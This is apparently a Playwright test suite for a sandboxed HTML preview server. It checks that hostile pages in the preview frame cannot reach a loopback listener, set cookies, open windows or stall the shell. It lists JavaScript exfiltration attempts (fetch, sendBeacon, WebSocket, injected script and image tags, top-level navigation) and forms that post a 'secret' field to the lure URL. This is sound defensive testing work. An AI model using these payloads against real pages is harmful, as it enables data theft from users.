"""Pages that attack, in a real Chromium, beside a service on loopback that must not notice."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Error, Page, expect

from tests.web.preview_page import chromium, in_page, server, tab
from w2c_tui.web.preview import PreviewServer, Shown

__all__ = ["chromium", "server", "tab"]

HOSTILE = (Path(__file__).parent / "hostile.html").read_text(encoding="utf-8")


class Lure:
    """A service on loopback that notes every connection, with the first line that came over it."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.1)
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._listener.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(0.3)
                try:
                    line = connection.recv(300).split(b"\r\n")[0]
                    self.seen.append(line or b"connected")
                    connection.sendall(b"HTTP/1.0 204 No Content\r\n\r\n")
                except OSError:
                    self.seen.append(b"connected")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self._listener.close()


@pytest.fixture
def lure() -> Iterator[Lure]:
    service = Lure()
    yield service
    service.close()


def assert_nothing_got_out(server: PreviewServer, tab: Page, lure: Lure, title: str) -> None:
    tab.wait_for_timeout(1000)
    assert lure.seen == []
    assert_still_there(server, tab, title)


def assert_still_there(server: PreviewServer, tab: Page, title: str) -> None:
    assert tab.url == server.url
    assert len(tab.context.pages) == 1
    assert tab.context.cookies() == []
    assert tab.title() == f"{title} – preview"


@pytest.mark.parametrize("padding", [0, 2_100_000], ids=["prepared", "too-large-to-prepare"])
def test_a_hostile_page_reaches_nothing(
    server: PreviewServer, tab: Page, lure: Lure, padding: int
) -> None:
    html = HOSTILE.replace("URL", lure.url) + f"<!--{'x' * padding}-->"
    server.show(Shown(title="Safe", html=html))
    tab.goto(server.url)
    expect(in_page(tab).locator("h1")).to_have_text("Hostile")
    for name in ("plain", "top", "blank", "script", "svglink", "animated", "send"):
        element = in_page(tab).locator(f"#{name}")
        for button in ("left", "middle"):
            element.click(no_wait_after=True, force=True, button=button)  # type: ignore[arg-type]
    in_page(tab).locator("#plain").click(modifiers=["Control"], no_wait_after=True)
    in_page(tab).locator("input[name=secret]").press("Enter")
    assert_nothing_got_out(server, tab, lure, "Safe")
    note = "too large" if padding else "Scripts do not run here."
    expect(tab.locator("#notes")).to_contain_text(note)
    expect(in_page(tab).locator("h1")).to_have_text("Hostile")
    assert tab.frames[1].evaluate("document.title") != "scripted"


def test_the_service_notices_the_same_page_where_nothing_holds_it(
    tab: Page, lure: Lure, tmp_path: Path
) -> None:
    """What the other tests here would see if the defences were missing."""
    page = tmp_path / "hostile.html"
    unbound = HOSTILE.replace("while (true) {}", "").replace('http-equiv="refresh"', "")
    page.write_text(unbound.replace("URL", lure.url), encoding="utf-8")
    tab.goto(page.as_uri(), wait_until="commit")
    expected = {"/img", "/fetch", "/css", "/object", "/onload", "/srcset"}
    until = time.monotonic() + 60
    while not expected <= {line.decode().split(" ")[1] for line in lure.seen if b" " in line}:
        assert time.monotonic() < until, lure.seen
        tab.wait_for_timeout(50)


def test_even_a_script_in_the_frame_could_not_get_out(
    server: PreviewServer, tab: Page, lure: Lure
) -> None:
    """The sandbox and the two policies by themselves, without what is taken out of pages."""
    tab.goto(server.url)
    expect(in_page(tab).locator("h1")).to_have_text("Hello")
    inner = tab.frames[1]
    for attempt in (
        "fetch(url).catch(() => 0)",
        "navigator.sendBeacon(url)",
        "document.cookie = 'a=b'",
        "localStorage.a = 1",
        "window.open(url)",
        "top.location = url",
        "parent.document.title = 'x'",
        "new WebSocket(url.replace('http', 'ws'))",
        "document.body.append(Object.assign(new Image(), { src: url }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: url }))",
        "Object.assign(document.createElement('a'), { href: url, target: '_top' }).click()",
        "document.head.append(Object.assign(document.createElement('script'), { src: url }))",
        "document.head.insertAdjacentHTML('beforeend',"
        " `<meta http-equiv=refresh content='0; url=${url}'>`)",
        "location = url",
    ):
        # A frame that is refused where it goes loses what it was.
        with contextlib.suppress(Error):
            inner.evaluate(f"url => {{ try {{ {attempt} }} catch {{}} }}", f"{lure.url}/own")
        tab.wait_for_timeout(50)
    tab.wait_for_timeout(500)
    # Chromium connects before it asks the policy whether a frame may go there; it sends nothing.
    assert [line for line in lure.seen if line != b"connected"] == []
    assert_still_there(server, tab, "A page")


def test_even_a_script_that_never_ends_leaves_the_shell_alive(
    server: PreviewServer, tab: Page, lure: Lure
) -> None:
    """Nothing of a page runs, so one is put into the frame from outside."""
    tab.goto(server.url)
    expect(in_page(tab).locator("h1")).to_have_text("Hello")
    tab.frames[1].evaluate("() => { setTimeout(() => { for (;;) {} }, 0) }")
    tab.get_by_role("button", name="Tablet").click(timeout=20_000)
    expect(tab.locator("#page-size")).to_contain_text("768 px", timeout=20_000)
    server.show(Shown(title="Next", html="<!DOCTYPE html><h1>Next</h1>"))
    expect(tab.locator("#title")).to_have_text("Next", timeout=20_000)
    tab.reload(timeout=20_000)
    expect(in_page(tab).locator("h1")).to_have_text("Next", timeout=20_000)
    assert_still_there(server, tab, "Next")


def test_a_form_in_a_page_sends_nothing_by_any_of_its_ways(
    server: PreviewServer, tab: Page, lure: Lure
) -> None:
    ways = "".join(
        f"<form id=f{at} action='{lure.url}/{method}{at}' method={method} target={target}>"
        f"<input name=secret value=1><input type=image src=x><button id=b{at}>Send</button></form>"
        for at, (method, target) in enumerate(
            (method, target)
            for method in ("get", "post", "dialog")
            for target in ("_self", "_top", "_blank", "_parent")
        )
    )
    outside = f"<button id=outside form=f0 formaction='{lure.url}/over' formtarget=_top>Go</button>"
    own = f"<form action='{server.url}page' method=post><button id=own>Own</button></form>"
    server.show(Shown(title="Forms", html=f"<!DOCTYPE html><h1>Forms</h1>{ways}{outside}{own}"))
    tab.goto(server.url)
    expect(in_page(tab).locator("h1")).to_have_text("Forms")
    for button in in_page(tab).locator("button").all():
        button.click(no_wait_after=True)
    in_page(tab).locator("#f1 input[name=secret]").press("Enter")
    assert_nothing_got_out(server, tab, lure, "Forms")
    expect(in_page(tab).locator("h1")).to_have_text("Forms")


def test_cookies_of_other_services_on_this_machine_stay_theirs(
    server: PreviewServer, tab: Page, lure: Lure
) -> None:
    """Cookies know no ports: what another service set on 127.0.0.1 belongs to this address, too."""
    theirs = {"name": "session", "value": "theirs", "url": lure.url}
    tab.context.add_cookies([theirs])  # type: ignore[list-item]
    html = (
        "<!DOCTYPE html><meta http-equiv=set-cookie content='session=mine'><h1>Cookies</h1>"
        f"<img src='{lure.url}/with-cookie'><a id=go href='{lure.url}/go'>go</a>"
    )
    server.show(Shown(title="Cookies", html=html))
    tab.goto(server.url)
    expect(in_page(tab).locator("h1")).to_have_text("Cookies")
    in_page(tab).locator("#go").click(no_wait_after=True)
    tab.wait_for_timeout(500)
    read = "() => { try { return document.cookie } catch (error) { return error.name } }"
    assert tab.frames[1].evaluate(read) == "SecurityError"
    assert [cookie["value"] for cookie in tab.context.cookies()] == ["theirs"]  # type: ignore[typeddict-item]
    assert lure.seen == []


def test_a_page_that_hides_properties_of_the_document_is_shown_all_the_same(
    server: PreviewServer, tab: Page
) -> None:
    names = ["documentElement", "body", "head", "querySelectorAll", "childNodes", "firstChild"]
    names += ["attributes", "nextSibling", "parentNode", "nodeType", "remove", "compatMode"]
    html = (
        "<!DOCTYPE html><html><body>"
        + "".join(f"<img name={name} alt={name}>" for name in names)
        + "<form>"
        + "".join(f"<input name={name}>" for name in names)
        + "</form><h1>{}</h1><meta http-equiv=refresh content='9; url=/'>"
    )
    tab.goto(server.url)
    for step in ("One", "Two"):
        server.show(Shown(title="t", html=html.format(step)))
        expect(in_page(tab).locator("h1")).to_have_text(step)
    assert in_page(tab).locator("meta").count() == 0


def test_fifty_megabytes_of_page_do_not_stop_the_shell(server: PreviewServer, tab: Page) -> None:
    row = "<div class=row><p>Some <b>words</b> in a row</p><span>more</span></div>\n"
    html = "<!DOCTYPE html><html><body><h1>Large</h1>" + row * (50_000_000 // len(row))
    tab.goto(server.url)
    expect(in_page(tab).locator("h1")).to_have_text("Hello")
    tab.evaluate(
        """() => { window.worst = 0; let last = performance.now();
        setInterval(() => { const now = performance.now();
          window.worst = Math.max(window.worst, now - last); last = now }, 20) }"""
    )
    server.show(Shown(title="Large", html=html))
    expect(tab.locator("#title")).to_have_text("Large")
    until = time.monotonic() + 60
    while time.monotonic() < until and tab.evaluate("document.body.dataset.revision") != "1":
        tab.wait_for_timeout(100)
    worst = tab.evaluate("window.worst")
    assert worst < 2500, f"the shell stood still for {worst:.0f} ms"
    tab.get_by_role("button", name="Phone").click(timeout=20_000)
    expect(tab.locator("#page-size")).to_contain_text("390 px", timeout=20_000)
